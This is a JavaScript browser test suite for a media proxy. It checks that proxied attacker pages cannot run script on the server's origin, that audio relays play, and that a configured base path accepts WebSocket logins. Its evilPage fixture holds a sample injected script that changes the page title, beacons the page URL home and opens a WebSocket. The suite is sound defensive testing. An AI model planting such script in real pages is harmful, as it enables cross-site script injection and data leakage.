// The media proxy as an attacker would use it, and its reference-client names
// (issues 13 and 21):
//  - a page from elsewhere, fetched through /media (or media_proxy.php), never
//    runs script on the server's origin: HTML is refused with 415, and what is
//    relayed carries headers that stop rendering; a control shows the same
//    page's script does run when loaded from its own server;
//  - media_proxy.php?url=<a local tone stream>, relative to the page, plays
//    through an <audio> element into Web Audio audible and untainted;
//  - with /chgrid/ in web_base_paths, a page's WebSocket at /chgrid/ws logs in
//    with the session cookie, /chgrid/media_proxy.php relays, and an unlisted
//    prefix is refused.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { setTimeout as sleep } from 'node:timers/promises';
import { launchBrowser, newPage, register, uniqueName, closeAll, URL_BASE, budget } from './lib/harness.mjs';
import {
  startStreamServer, startPlaying, listen, stopPlaying, audible, TONE, OTHER,
} from './lib/tone-stream.mjs';

/** An attacker's page: its script changes the title and calls home. */
function evilPage(type) {
  return (req, res) => {
    res.statusCode = 200;
    if (type) res.setHeader('Content-Type', type);
    res.end('<!doctype html><title>evil</title><script>document.title = "pwned";'
      + `new Image().src = "http://${req.headers.host}/beacon?from=" + encodeURIComponent(location.href);`
      + 'try { new WebSocket((location.protocol === "https:" ? "wss://" : "ws://") + location.host + "/ws"); } catch (e) {}'
      + '</script><p>evil</p>');
  };
}

function beaconRoute(res) {
  res.statusCode = 204;
  res.end();
}

const proxied = (name, src) => `${URL_BASE}${name}?url=${encodeURIComponent(src)}`;

async function waitFor(what, fn, timeout) {
  const end = Date.now() + timeout;
  while (Date.now() < end) {
    if (fn()) return;
    await sleep(50);
  }
  assert.fail(`timed out after ${timeout} ms waiting for ${what}`);
}

test('a page fetched through /media or media_proxy.php never runs script on our origin', { timeout: 180000 }, async (t) => {
  const source = await startStreamServer({
    '/evil.html': evilPage('text/html; charset=utf-8'),
    '/evil-untyped': evilPage(null),
    '/evil-octet': evilPage('application/octet-stream'),
    '/evil-svg': evilPage('image/svg+xml'),
    '/evil-as-audio': evilPage('audio/mpeg'),
    '/beacon': (req, res) => beaconRoute(res),
  });
  const browser = await launchBrowser();
  try {
    const page = await newPage(browser);
    await register(page, uniqueName('sec'));
    const beacons = () => source.requests.filter((r) => r.path.startsWith('/beacon'));

    // Control: the page loaded from its own server runs its script and calls home.
    const control = await page.context().newPage();
    const t0 = Date.now();
    await control.goto(source.url('/evil.html'));
    await waitFor('the control page to call home', () => beacons().length === 1, 15000);
    const latency = Date.now() - t0;
    assert.equal(await control.title(), 'pwned', 'the control page ran its script');
    await control.close();
    t.diagnostic(`control: the page's script called home ${latency} ms after navigation`);
    // Whatever runs would have called home by then, with a wide margin.
    const grace = Math.max(2000, 10 * latency);

    const cases = [
      ['media', '/evil.html', 415],
      ['media', '/evil-untyped', 415],
      ['media', '/evil-octet', 415],
      ['media', '/evil-svg', 415],
      ['media', '/evil-as-audio', 200],	// relayed as audio: the browser must not render it as a page
      ['media_proxy.php', '/evil.html', 415],
      ['media_proxy.php', '/evil-as-audio', 200],
    ];
    // All at once, then one wait: whatever script the pages hold has had its chance.
    const before = beacons().length;
    const opened = await Promise.all(cases.map(async ([name, path]) => {
      const victim = await page.context().newPage();
      const resp = await victim.goto(proxied(name, source.url(path)), { waitUntil: 'commit' });
      return { victim, resp, what: `${name} for ${path}` };
    }));
    await sleep(grace);
    assert.equal(beacons().length, before, `a page's script ran and called home: ${JSON.stringify(beacons())}`);
    for (const [i, { victim, resp, what }] of opened.entries()) {
      const title = await victim.title().catch(() => '');
      assert.notEqual(title, 'pwned', `${what}: the page's script ran (title)`);
      assert.equal(resp.status(), cases[i][2], `${what}: status`);
      const h = resp.headers();
      assert.equal(h['x-content-type-options'], 'nosniff', `${what}: nosniff`);
      assert.equal(h['content-security-policy'], "sandbox; default-src 'none'", `${what}: CSP`);
      assert.equal(h['content-disposition'], 'inline; filename="stream"', `${what}: Content-Disposition`);
      await victim.close();
    }
    t.diagnostic(`no script ran in ${cases.length} pages in ${grace} ms`);
    // The refused ones never reached the browser as pages: the daemon logged them.
    const log = readFileSync(process.env.CG_DAEMON_LOG, 'utf8');
    assert.match(log, /refused: 415 not an audio stream \(text\/html; charset=utf-8\)/);
  } finally {
    await closeAll(browser);
    await source.close();
  }
});

test('media_proxy.php, relative to the page, plays a tone through <audio> into Web Audio, readable and audible', { timeout: 90000 }, async (t) => {
  const source = await startStreamServer();
  const browser = await launchBrowser();
  try {
    const page = await newPage(browser);
    await register(page, uniqueName('mpp'));
    const src = source.url('/live.wav?hz=660');
    // As the reference client builds it: <base>media_proxy.php?url=..., the base being /.
    const started = await startPlaying(page, `media_proxy.php?url=${encodeURIComponent(src)}`);
    assert.ok(started.played, `play() through media_proxy.php: ${JSON.stringify(started)}`);
    const end = Date.now() + budget(15000);
    let m;
    do {
      m = await listen(page);
    } while (!audible(m) && Date.now() < end);
    assert.ok(audible(m), `the ${TONE} Hz tone is audible through media_proxy.php: ${JSON.stringify(m)}; upstream: ${JSON.stringify(source.requests)}`);
    assert.ok(Math.abs(m.peakHz - TONE) < 15, `the strongest frequency is ${TONE} Hz: ${JSON.stringify(m)}`);
    t.diagnostic(`through media_proxy.php: ${TONE} Hz ${m.db[TONE]} dB, ${OTHER} Hz ${m.db[OTHER]} dB, rms ${m.rms}`);
    const gets = source.requests.filter((r) => r.path === '/live.wav?hz=660');
    assert.equal(gets.length, 1, `one upstream GET: ${JSON.stringify(source.requests)}`);
    await stopPlaying(page);
    await waitFor('the upstream request to close after the element stopped', () => gets[0].closedAt !== 0, 5000);
    const log = readFileSync(process.env.CG_DAEMON_LOG, 'utf8');
    assert.ok(log.includes(`relaying ${src} (200 audio/wav)`), 'the daemon logged the relay');
  } finally {
    await closeAll(browser);
    await source.close();
  }
});

/** Rewrite the daemon's configuration with extra lines and reload it. */
async function reconfigure(extra) {
  const conf = process.env.CG_CONF;
  const base = readFileSync(conf, 'utf8').replace(/\n# media-security\.test[^\n]*\n[^\n]*\n?/g, '\n');
  writeFileSync(conf, extra ? `${base.replace(/\n*$/, '\n')}# media-security.test\n${extra}\n` : base);
  const before = readFileSync(process.env.CG_DAEMON_LOG, 'utf8').split('reloaded configuration').length;
  process.kill(Number(readFileSync(process.env.CG_PIDFILE, 'utf8').trim()), 'SIGHUP');
  await waitFor('the daemon to reload its configuration',
    () => readFileSync(process.env.CG_DAEMON_LOG, 'utf8').split('reloaded configuration').length > before, 30000);
}

test('with /chgrid/ in web_base_paths a page logs in over /chgrid/ws with its cookie and streams through /chgrid/media_proxy.php', { timeout: 90000 }, async () => {
  const source = await startStreamServer();
  const browser = await launchBrowser();
  try {
    await reconfigure('web_base_paths / /chgrid/');
    const page = await newPage(browser);
    const user = uniqueName('base');
    await register(page, user);
    const ws = await page.evaluate(async () => {
      const open = (path) => new Promise((resolve) => {
        const got = [];
        const s = new WebSocket(`ws://${location.host}${path}`);
        const done = (how) => {
          try { s.close(); } catch { /* closed */ }
          resolve({ how, got });
        };
        s.onmessage = (e) => {
          got.push(JSON.parse(e.data));
          if (got.some((m) => m.type === 'welcome')) done('welcome');
        };
        s.onerror = () => done('error');
        s.onclose = () => done('closed');
        setTimeout(() => done('timeout'), 10000);
      });
      return { based: await open('/chgrid/ws'), unlisted: await open('/nobase/ws') };
    });
    const first = ws.based.got[0];
    assert.equal(ws.based.how, 'welcome', `/chgrid/ws: ${JSON.stringify(ws.based)}`);
    assert.equal(first.type, 'auth_result', `the cookie logged the page in at once: ${JSON.stringify(first)}`);
    assert.equal(first.ok, true);
    assert.equal(first.username, user);
    assert.equal(ws.unlisted.how, 'error', `/nobase/ws is refused: ${JSON.stringify(ws.unlisted)}`);
    const head = await page.evaluate(async (u) => {
      const r = await fetch(u, { method: 'HEAD', signal: AbortSignal.timeout(10000) });
      return { status: r.status, type: r.headers.get('content-type') };
    }, `/chgrid/media_proxy.php?url=${encodeURIComponent(source.url('/live.wav'))}`);
    assert.deepEqual(head, { status: 200, type: 'audio/wav' }, `/chgrid/media_proxy.php: ${JSON.stringify(head)}`);
  } finally {
    await closeAll(browser);
    await source.close();
    await reconfigure(null);
  }
});
